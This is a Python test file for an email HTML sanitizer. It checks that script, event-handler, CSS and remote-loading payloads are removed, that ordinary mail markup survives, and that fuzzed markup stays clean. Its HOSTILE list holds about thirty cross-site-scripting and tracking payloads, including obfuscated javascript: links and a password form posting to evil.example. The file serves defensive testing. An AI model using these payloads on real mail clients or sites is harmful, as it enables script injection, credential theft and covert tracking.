from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.mime.html.sanitize import sanitize
from tests.support.html_judge import dangers, tags_of, text_of, words_of

HOSTILE = [
    "<script>steal()</script>after",
    "<img src=x onerror=steal()>",
    '<svg/onload="steal()"><p>kept</p>',
    '<a href="java\tscript:steal()">go</a>',
    '<a href="&#106;avascript:steal()">go</a>',
    '<a href=" vbscript:x">go</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">go</a>',
    '<img src="data:image/svg+xml,%3Csvg%20onload=x%3E">',
    '<iframe srcdoc="<script>x</script>"></iframe>',
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    '<div style="background:url(https://evil.example/p.gif)">a</div>',
    '<div style="background:u\\72l(https://evil.example/p.gif)">a</div>',
    '<div style="width:expression(steal())">a</div>',
    '<div style="position:fixed;top:0;left:0;width:9999px">a</div>',
    '<p style="color:red;x:</style><script>steal()</script>">a</p>',
    "<style>@import 'https://evil.example/x.css';</style>a",
    '<link rel=stylesheet href="https://evil.example/x.css">a',
    '<meta http-equiv=refresh content="0;url=https://evil.example">a',
    '<base href="https://evil.example/">a',
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></table></math>",
    '<noscript><p title="</noscript><img src=x onerror=steal()>">a</noscript>',
    '<table background="https://evil.example/t.gif"><tr><td>a</td></tr></table>',
    '<img srcset="https://evil.example/a.png 1x">',
    "<img id=location name=cookie src=cid:a>",
    '<video poster="https://evil.example/a.png" src=a></video>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>steal()</x:script>",
    "<!--[if IE]><script>steal()</script><![endif]-->a",
    "<a href='https://ok.example' onmouseover='steal()' target=_top>a</a>",
    "<p style=\"font-family:'a;background:url(https://evil.example)'\">a</p>",
    "<plaintext><script>steal()</script>",
]


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("allow", [False, True])
def test_nothing_that_runs_or_loads_survives(html: str, allow: bool) -> None:
    clean = sanitize(html, allow_remote_images=allow)
    assert dangers(clean, allow_remote=allow) == []
    assert "evil.example" not in clean or "src" in clean


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (
            '<p style="color:#ff0000;text-align:center">a</p>',
            'style="color:#ff0000;text-align:center"',
        ),
        (
            '<a href="https://a.example/x?y=1&amp;z=2">a</a>',
            'href="https://a.example/x?y=1&amp;z=2"',
        ),
        ('<a href="mailto:a@b.example">a</a>', 'href="mailto:a@b.example"'),
        ('<a href="tel:+4912345">a</a>', 'href="tel:+4912345"'),
        ('<img src="cid:logo@x" alt="Logo">', 'src="cid:logo@x"'),
        ('<img src="data:image/png;base64,iVBORw0KGgo=">', "data:image/png;base64,iVBORw0KGgo="),
        ('<td colspan="2" bgcolor="#eee">', ""),
        ('<ol type="a" start="3"><li>x</li></ol>', 'start="3"'),
        ("<p style=\"font-family:'Segoe UI', Arial\">a</p>", "font-family:'Segoe UI', Arial"),
    ],
)
def test_what_a_mail_is_made_of_stays(html: str, kept: str) -> None:
    assert kept in sanitize(html)


def test_remote_pictures_come_only_when_asked_for() -> None:
    html = '<img src="https://pics.example/a.png" alt="Chart">'
    assert "pics.example" not in sanitize(html)
    assert 'alt="Chart"' in sanitize(html)
    assert "https://pics.example/a.png" in sanitize(html, allow_remote_images=True)


def test_tables_keep_their_shape() -> None:
    html = (
        "<table><tbody><tr><th>A</th><td rowspan=2>B</td></tr><tr><td>C</td></tr></tbody></table>"
    )
    assert tags_of(sanitize(html)) == ["table", "tbody", "tr", "th", "td", "tr", "td"]
    assert 'rowspan="2"' in sanitize(html)


def test_text_of_unknown_elements_stays() -> None:
    assert sanitize("<custom-card>Hello <blink>you</blink></custom-card>") == "Hello you"


def test_negative_margins_and_giant_sizes_go() -> None:
    html = '<p style="margin-left:-9999px;font-size:99999px;padding:4px">a</p>'
    assert sanitize(html) == '<p style="padding:4px">a</p>'


def test_lone_surrogates_and_nul_do_no_harm() -> None:
    assert sanitize("a\ud800b\x00c") == "a\ufffdbc"


def test_nesting_without_end_keeps_the_words() -> None:
    html = "<div><b>" * 30_000 + "deep " + "</b></div>" * 30_000 + "after"
    words = words_of(re.sub(r"<[^>]*>", "", sanitize(html)))
    assert words == ["deep", "after"]


_PIECES = st.sampled_from(
    ["<p>", "</p>", "<b>", "<table>", "<td>", "<svg>", "<style>", "<!--", "-->", "<a href=", "'", '"',
     ">", "javascript:", "onclick=x ", "</", "style=", "url(", "<img src=", "&#x", ";", "text", "<math>",
     "<template>", "<select>", "]]>", "<![CDATA[", "\x00", "\ud800", "="]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_mixture_of_markup_gets_anything_through(html: str) -> None:
    assert dangers(sanitize(html)) == []


@given(st.lists(_PIECES, max_size=30).map("".join))
def test_sanitising_again_finds_nothing_new(html: str) -> None:
    once = sanitize(html)
    again = sanitize(once)
    assert dangers(again) == []
    assert words_of(text_of(again)) == words_of(text_of(once))
